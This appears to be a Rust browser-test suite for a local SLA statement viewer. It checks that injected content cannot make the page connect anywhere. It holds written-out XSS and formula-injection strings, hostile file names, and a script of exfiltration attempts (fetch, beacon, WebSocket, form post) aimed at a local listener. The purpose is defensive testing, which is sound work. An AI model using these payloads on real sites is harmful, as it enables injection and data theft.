//! Nothing leaves the page, whatever the files say and whatever a script in the page tries.

use crate::{
    harness::{Browser, Engine},
    main_job::{demo_files, folder},
    report::{address, click_button, report},
    site::{Site, built, single_file},
};
use std::{
    fs,
    io::{BufRead, BufReader},
    net::TcpListener,
    path::{Path, PathBuf},
    sync::{Arc, Mutex},
    thread,
    time::Duration,
};

const PLACE: &str = "#month=2026-03&lang=en&as_of=2026-04-20T00:00:00Z";
/// The boot script's list of what it takes from the page, from its start to its end.
const TAKEN: [(&str, &str); 2] = [("var channels = [", "];"), ("var ofNavigator = [", "];")];

/// Notes whoever connects, and never answers.
struct Listener {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Listener {
    fn start() -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::<Mutex<Vec<String>>>::default();
        let noted = Arc::clone(&heard);
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let noted = Arc::clone(&noted);
                thread::spawn(move || {
                    stream.set_read_timeout(Some(Duration::from_millis(500))).ok();
                    let mut line = String::new();
                    BufReader::new(stream).read_line(&mut line).ok();
                    noted.lock().unwrap().push(line.trim().to_owned());
                });
            }
        });
        Self { port, heard }
    }

    /// Who connected so far, once what is under way has had time to arrive.
    fn heard(&self) -> Vec<String> {
        thread::sleep(Duration::from_secs(2));
        self.heard.lock().unwrap().clone()
    }
}

/// A name that is markup, ends scripts and styles, is a formula, turns the direction of writing, and names a server.
fn hostile(port: u16, field: &str) -> String {
    let server = format!("http://127.0.0.1:{port}/{field}");
    format!(
        "=HYPERLINK(\"{server}\")</script></style></title><script src='{server}.js'></script><img src='{server}.png' \
         onerror=\"location='{server}'\"><link rel=stylesheet href='{server}.css'><base href='{server}'>\u{202e}{field}\u{2066}{{{{7*7}}}}"
    )
}

/// A case in which every name and every text is such.
fn hostile_case(port: u16) -> Vec<PathBuf> {
    let folder = folder("hostile");
    let text = |field: &str| hostile(port, field);
    let export = serde_json::json!({
        "schema": "sla-export/1",
        "contract": {
            "id": text("contract"), "time_zone": "Asia/Shanghai", "signed_on": "2025-12-28",
            "term": { "first_day": "2026-01-01", "last_day": "2026-12-31" },
            "service_class": "colocation",
            "customer": { "name": text("customer"), "representative": text("representative"), "address": text("address"),
                "postal_code": text("postal"), "telephone": text("telephone"), "email": text("email") },
            "provider": { "name": text("provider") },
            "place_of_signing": text("place"), "currency": "CNY", "monthly_rent": "3000.00",
            "service_specialist": text("specialist"), "support_engineer": text("engineer"),
            "contacts": [{ "name": text("contact"), "channel": "email", "address": text("contact-address"),
                "valid_from": "2026-01-01T00:00:00+08:00", "valid_to": null, "faulty": false }],
        },
        "targets": [{ "id": text("target"), "guarantee": "network", "label": text("label") }],
        "outages": [{ "id": text("outage"), "target": text("target"), "start": "2026-03-09T02:10:00+08:00",
            "end": "2026-03-09T04:10:00+08:00" }],
        "maintenance": [{ "id": text("maintenance"), "targets": [text("target")], "start": "2026-03-09T02:00:00+08:00",
            "end": "2026-03-09T02:30:00+08:00", "work": text("work"), "agreed": "agreed",
            "consent": { "by": text("consent"), "at": "2026-03-06T17:20:00+08:00", "form": "written" } }],
        "exclusions": [{ "id": text("exclusion"), "clause": "1.4.b", "targets": [text("target")],
            "start": "2026-03-09T03:00:00+08:00", "end": "2026-03-09T03:10:00+08:00", "evidence": text("evidence"),
            "agreed": "claimed" }],
        "complaints": [{ "id": text("complaint"), "form": "written", "topic": "network",
            "submitted_at": "2026-03-02T09:00:00+08:00", "accepted_at": "2026-03-02T09:05:00+08:00", "first_report_at": null }],
        "visits": [{ "id": text("visit"), "notified_at": "2026-03-03T09:00:00+08:00", "reason": text("reason"),
            "activity": text("activity"), "expected_entry": "2026-03-04T09:00:00+08:00",
            "expected_exit": "2026-03-04T10:00:00+08:00", "cooperation": text("cooperation"),
            "entered_at": "2026-03-04T09:00:00+08:00", "escort": true, "badge": true, "refused": false }],
    });
    let settlement = serde_json::json!({
        "schema": "sla-settlement/1", "contract": text("contract"),
        "settled": [{ "exclusion": text("exclusion"), "agreed": "rejected", "by": text("settled"), "on": "2026-04-08" }],
    });
    let rows: String = (0..8_928)
        .map(|row| {
            let status = if (4_000..4_010).contains(&row) { "down" } else { "up" };
            let name = hostile(port, "series").replace('"', "\"\"");
            format!("{},\"{name}\",{status}\n", 1_772_294_400 + row * 300)
        })
        .collect();
    let wrong = hostile(port, "rejected").replace('"', "\"\"");
    let files = [
        ("<img src=x onerror=alert(1)>'&.json", export.to_string()),
        ("sla-settlement.json", settlement.to_string()),
        ("=cmd()&</script>\u{202e}vsc.csv", format!("time,target,status\n{rows}1772294400,a,\"{wrong}\"\n")),
    ];
    let written = files.map(|(name, text)| {
        // A slash is the one character that no name of a file can have.
        let path = folder.join(name.replace('/', "∕"));
        fs::write(&path, text).unwrap();
        path
    });
    written.to_vec()
}

/// Shows everything that there is to see, prints it and saves it.
fn see_everything(browser: &Browser, address: &str, files: &[PathBuf]) {
    browser.open(address).wait_for_state("empty").choose_files(files).wait_for_state("ready");
    let mut turned = String::new();
    for view in ["overview", "outages", "agreement", "statement", "verify", "targets"] {
        browser.run(&format!("location.hash = '{PLACE}&view={view}'"));
        browser.run("document.querySelectorAll('details').forEach(own => { own.open = true })");
        browser.wait_until("return document.body.textContent.includes('HYPERLINK')");
        let turning = browser.run(
            "const turned = [...document.querySelectorAll('body *:not(script)')].filter(own => [...own.childNodes]
                .some(text => text.nodeType === 3 && /[\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069]/.test(text.data)));
            return turned.map(own => `<${own.localName} class=${own.getAttribute('class')}> ${own.textContent.slice(0, 80)}\\n`).join('')",
        );
        turned.push_str(&turning.as_str().unwrap().lines().map(|own| format!("{view}: {own}\n")).collect::<String>());
        let foreign = "return document.querySelectorAll('body img, body base, body link, body [onerror], body script[src^=http]:not([id])').length";
        assert_eq!(browser.run(foreign).as_u64(), Some(0), "{view}: a name became markup");
    }
    let title = browser.run("return document.title");
    assert!(title.as_str().unwrap().contains("HYPERLINK") && !title.as_str().unwrap().contains('\u{202e}'), "{title}");
    assert_eq!(turned, "", "names that can turn the text around them");
    let paper = browser.print_pdf(&format!("hostile-{:?}", browser.engine())).text();
    assert!(paper.contains("HYPERLINK") && paper.contains("</script>"), "names stand on paper as they are:\n{paper}");
    browser.run(
        "[...document.querySelectorAll('button')].find(own => own.textContent.includes('(JSON)')).click(); return 1",
    );
}

fn nothing_connects(engine: Engine) {
    let listener = Listener::start();
    let files = hostile_case(listener.port);
    let browser = Browser::start(engine);
    let site = Site::hosted();
    for address in [site.url(&format!("/{PLACE}")), single_file(PLACE)] {
        see_everything(&browser, &address, &files);
        assert_eq!(listener.heard(), Vec::<String>::new(), "{engine:?} connected from {address}");
        browser.run(&attempts(listener.port));
        if engine == Engine::Chromium {
            let uncaught: Vec<_> =
                browser.console_errors().into_iter().filter(|line| line.contains("Uncaught")).collect();
            assert_eq!(uncaught, Vec::<String>::new());
        }
        // Chromium opens a connection for a frame or a form before it finds that the policy forbids to use it.
        let mut said = listener.heard();
        said.retain(|line| !line.is_empty());
        assert_eq!(said, Vec::<String>::new(), "{engine:?} sent a request from {address}");
        listener.heard.lock().unwrap().clear();
    }
}

#[test]
fn a_hostile_case_connects_to_nothing_in_chromium() {
    nothing_connects(Engine::Chromium);
}

#[test]
fn a_hostile_case_connects_to_nothing_in_firefox() {
    nothing_connects(Engine::Firefox);
}

/// With a viewer that runs, and read without scripts.
#[test]
fn a_report_of_a_hostile_case_connects_to_nothing() {
    for engine in [Engine::Chromium, Engine::Firefox] {
        let listener = Listener::start();
        let files = hostile_case(listener.port);
        let file = address(&report(&format!("hostile-{engine:?}"), "en", &files), "");
        let unscripted = Browser::without_scripts(engine);
        let paper = unscripted.open(&file).print_pdf(&format!("hostile-report-{engine:?}")).text();
        assert!(paper.contains("HYPERLINK") && paper.contains("</script>"), "{paper}");
        let browser = Browser::start(engine);
        browser.open(&file).wait_for_state("ready");
        browser.wait_until("return document.querySelector('.document').textContent.includes('HYPERLINK')");
        assert_eq!(browser.count("body img, body base, body link, body [onerror]"), 0, "a name became markup");
        assert_eq!(listener.heard(), Vec::<String>::new(), "{engine:?} connected from a report");
        browser.run(&attempts(listener.port));
        let mut said = listener.heard();
        said.retain(|line| !line.is_empty());
        assert_eq!(said, Vec::<String>::new(), "{engine:?} sent a request from a report");
    }
}

/// The one thing that the hosted page asks for after it has started, and only when a person saves.
#[test]
fn saving_one_file_asks_for_the_empty_one_and_says_nothing() {
    for engine in [Engine::Chromium, Engine::Firefox] {
        let site = Site::hosted();
        let browser = Browser::start(engine);
        browser.open(&site.url(&format!("/?secret=1{PLACE}"))).wait_for_state("empty");
        site.asked();
        browser.choose_files(&demo_files(&format!("saving-{engine:?}"))).wait_for_state("ready");
        assert_eq!(site.asked(), Vec::<String>::new(), "{engine:?}");
        // Wherever a script leads the page, and whatever it hands over, this stays the same.
        browser.run(&format!(
            "history.replaceState(null, '', '/elsewhere/{PLACE}'); {OWN}
            own.slaBeside('/other'); document.title = 'asked'; return 1"
        ));
        click_button(&browser, "Save as one file");
        browser.downloaded("sla-statement-HC-2026-0042-2026-03.html");
        assert_eq!(site.asked(), ["GET /sla-statement.html HTTP/1.1"; 2], "{engine:?}");
    }
}

/// What a server puts before its own exports to lead somebody to them; a stranger's link may name any address.
#[test]
fn the_address_names_exports_of_the_pages_own_server_and_of_no_other() {
    let listener = Listener::start();
    let folder = page_with_exports("named");
    for file in demo_files("named-case") {
        fs::copy(&file, folder.join(file.file_name().unwrap())).unwrap();
    }
    for engine in [Engine::Chromium, Engine::Firefox] {
        let site = Site::serve(&folder);
        let browser = Browser::start(engine);
        browser.open(&site.url(&format!("/?case=contract.json&case=pings.csv{PLACE}"))).wait_for_state("ready");
        assert!(browser.text("[data-guarantee=network]").contains("Breached"));
        let asked = site.asked();
        assert!(asked.iter().any(|line| line.starts_with("GET /contract.json ")), "{asked:?}");
        let foreign = format!("http://127.0.0.1:{}/pings.csv", listener.port);
        for foreign in [
            foreign.clone(),
            foreign.replace("http:", ""),
            "file:///etc/hostname".to_owned(),
            "data:text/csv,time".to_owned(),
        ] {
            browser.open("about:blank").open(&site.url(&format!("/?case={foreign}{PLACE}"))).wait_for_state("failed");
            let asked = site.asked();
            assert!(!asked.iter().any(|line| line.starts_with("GET /pings")), "{engine:?} {foreign}: {asked:?}");
        }
        assert_eq!(listener.heard(), Vec::<String>::new(), "{engine:?}");
    }
    fs::remove_dir_all(folder).unwrap();
}

/// The hosted page, to be served with more files beside it.
fn page_with_exports(name: &str) -> PathBuf {
    let folder = folder(name);
    for entry in
        fs::read_dir(built("index.html").parent().unwrap()).unwrap().flatten().filter(|own| own.path().is_file())
    {
        fs::copy(entry.path(), folder.join(entry.file_name())).unwrap();
    }
    folder
}

#[test]
fn no_page_of_somebody_else_can_hold_the_hosted_one() {
    for engine in [Engine::Chromium, Engine::Firefox] {
        let browser = Browser::start(engine);
        for (site, starts) in [(Site::hosted_without_headers(), true), (Site::hosted(), false)] {
            let frame =
                format!("document.body.appendChild(document.createElement('iframe')).src = '{}'", site.url("/"));
            browser.open(&plain_site("frame").url("/")).run(&frame);
            thread::sleep(Duration::from_secs(3));
            let asked = site.asked();
            assert_eq!(asked.iter().any(|line| line.contains(".wasm")), starts, "{engine:?}: {asked:?}");
        }
    }
}

#[test]
fn nothing_of_a_case_is_stored() {
    for engine in [Engine::Chromium, Engine::Firefox] {
        let browser = Browser::start(engine);
        let site = Site::hosted();
        for address in [site.url(&format!("/?demo{PLACE}")), single_file(&format!("?demo{PLACE}"))] {
            browser.open(&address).wait_for_state("ready");
            browser.wait_until("return document.body.textContent.includes('HC-2026-0042')");
            let stored = browser.run(
                "const stores = ['localStorage', 'sessionStorage'].map(name => { try { return JSON.stringify(window[name]) } catch { return '' } });
                return stores.concat(document.cookie, JSON.stringify(history.state)).join()",
            );
            let stored = stored.as_str().unwrap();
            for word in ["HC-2026", "port-1", "3000", "青梧"] {
                assert!(!stored.contains(word), "{engine:?} at {address}: {stored}");
            }
            let listed = "return !indexedDB.databases ? 0 : indexedDB.databases().then(own => own.length)";
            assert_eq!(browser.run(listed).as_u64(), Some(0), "{engine:?} at {address}");
            browser.open("about:blank").open(&address.replace("?demo", "")).wait_for_state("empty");
        }
    }
}

/// What a script could try that had found its way into the page. Each attempt for itself: most are refused aloud.
fn attempts(port: u16) -> String {
    let server = format!("http://127.0.0.1:{port}");
    format!(
        "const make = (name, values) => document.body.appendChild(Object.assign(document.createElement(name), values));
        const attempts = [
            () => window.fetch('{server}/fetch', {{ mode: 'no-cors' }}).catch(() => 0),
            () => navigator.sendBeacon('{server}/beacon', 'x'),
            () => new WebSocket('{server}/socket'.replace('http', 'ws')),
            () => new EventSource('{server}/events'),
            () => {{ const own = new XMLHttpRequest(); own.open('GET', '{server}/xhr'); own.send(); }},
            () => {{ new Image().src = '{server}/image'; }},
            () => make('img', {{ src: '{server}/img' }}),
            () => make('video', {{ src: '{server}/video' }}),
            () => make('iframe', {{ src: '{server}/frame' }}),
            () => document.body.insertAdjacentHTML('beforeend', '<img src={server}/markup>'),
            () => {{ document.createElement('template').innerHTML = '<img src={server}/template>'; }},
            () => make('object', {{ data: '{server}/object' }}),
            () => make('script', {{ src: '{server}/script' }}),
            () => make('link', {{ rel: 'stylesheet', href: '{server}/style' }}),
            () => make('link', {{ rel: 'prefetch', href: '{server}/prefetch' }}),
            () => make('div', {{ style: 'background: url({server}/background)' }}),
            () => {{ const own = make('form', {{ action: '{server}/form', method: 'post', target: 'sent' }});
                     make('iframe', {{ name: 'sent' }}); own.submit(); }},
        ];
        attempts.forEach(attempt => {{ try {{ attempt(); }} catch (refused) {{}} }});
        return attempts.length"
    )
}

/// Otherwise the tests above would prove nothing.
#[test]
fn the_same_attempts_connect_from_a_page_without_our_policy() {
    for engine in [Engine::Chromium, Engine::Firefox] {
        let listener = Listener::start();
        let browser = Browser::start(engine);
        browser.open(&plain_site("attempts").url("/"));
        browser.run(&attempts(listener.port));
        let heard = listener.heard().join("\n");
        for path in ["/beacon", "/socket", "/img", "/frame", "/style", "/background"] {
            assert!(heard.contains(path), "{engine:?} did not try {path}:\n{heard}");
        }
    }
}

/// A page with nothing in it and nothing forbidden.
fn plain_site(name: &str) -> Site {
    let folder = folder(name);
    fs::write(folder.join("index.html"), "<!DOCTYPE html><title>plain</title><body></body>").unwrap();
    Site::serve(&folder)
}

/// The names in the boot script as it is written.
fn taken() -> [Vec<String>; 2] {
    let page = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("index.html")).unwrap();
    TAKEN.map(|(start, end)| {
        let (_, rest) = page.split_once(start).unwrap();
        let (list, _) = rest.split_once(end).unwrap();
        list.split(',').map(|name| name.trim().trim_matches('"').to_owned()).collect()
    })
}

/// Firefox shows a driver's script an untouched window; the page's own is behind it.
const OWN: &str = "const own = window.wrappedJSObject || window;";

#[test]
fn the_page_has_no_means_of_sending() {
    let [channels, of_navigator] = taken();
    assert!(channels.len() > 15 && of_navigator.len() > 3, "{channels:?} {of_navigator:?}");
    for engine in [Engine::Chromium, Engine::Firefox] {
        let browser = Browser::start(engine);
        let site = Site::hosted();
        for address in [site.url("/"), single_file("")] {
            browser.open(&address).wait_for_state("empty");
            let markup = "try { document.createElement('p').innerHTML = '<i>x</i>'; return 'made' } catch (refused) { return 'refused' }";
            assert_eq!(browser.run(markup), "refused", "{engine:?} makes markup of text");
            let left = format!(
                "{OWN} return {channels:?}.filter(name => own[name] !== undefined)
                    .concat({of_navigator:?}.filter(name => own.navigator[name] !== undefined)).join()"
            );
            assert_eq!(browser.run(&left).as_str(), Some(""), "{engine:?} at {address}");
            let beside = browser.run(&format!("{OWN} return typeof own.slaBeside"));
            let expected = if address.starts_with("http") { "function" } else { "undefined" };
            assert_eq!(beside, expected, "{engine:?} at {address}");
        }
        browser.open(&plain_site("means").url("/"));
        let before = browser.run(&format!("{OWN} return {channels:?}.filter(name => own[name] !== undefined).length"));
        assert!(before.as_u64().unwrap() > 10, "{engine:?} knows these names: {before}");
    }
}

/// A worker cannot be asked from outside, so the page's boot script runs in a worker of a plain page, which then tells.
#[test]
fn the_worker_has_no_means_of_sending() {
    let [channels, of_navigator] = taken();
    for engine in [Engine::Chromium, Engine::Firefox] {
        let browser = Browser::start(engine);
        browser.open(&single_file("")).wait_for_state("empty");
        let boot = browser.run("return document.getElementById('sla-boot').textContent");
        browser.open(&plain_site("worker").url("/"));
        let left = format!(
            "{channels:?}.filter(name => self[name] !== undefined)
                .concat({of_navigator:?}.filter(name => navigator[name] !== undefined)).join()"
        );
        for (source, closed) in [(String::new(), false), (boot.as_str().unwrap().to_owned(), true)] {
            let source = serde_json::json!(format!("{source}\n;postMessage('left: ' + {left})"));
            browser.run(&format!(
                "document.title = ''; const source = new Blob([{source}], {{ type: 'text/javascript' }});
                const worker = new Worker(URL.createObjectURL(source));
                worker.onmessage = event => {{ document.title = event.data; }};"
            ));
            let told = browser.wait_until("return document.title");
            assert_eq!(told == "left:", closed, "{engine:?}: {told}");
        }
    }
}

/// The worker is a real one, and not the page reading for itself because none could be started.
#[test]
fn a_worker_reads_the_files_under_the_policy() {
    let sample = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/samples/samples-csv/checks-and-vantages.csv");
    for engine in [Engine::Chromium, Engine::Firefox] {
        let browser = Browser::start(engine);
        let site = Site::hosted();
        for address in [site.url("/"), single_file("")] {
            browser.open(&address).wait_for_state("empty");
            browser.run(&format!(
                "{OWN} const start = own.slaWorker;
                const replacement = () => {{
                    const worker = start();
                    worker.addEventListener('message', () => {{ document.body.dataset.heard = 'worker'; }});
                    return worker;
                }};
                own.slaWorker = typeof exportFunction === 'function' ? exportFunction(replacement, own) : replacement;"
            ));
            browser.choose_files(&[&sample]).wait_for_state("ready");
            assert_eq!(browser.attribute("body", "data-heard").as_deref(), Some("worker"), "{engine:?} at {address}");
        }
    }
}
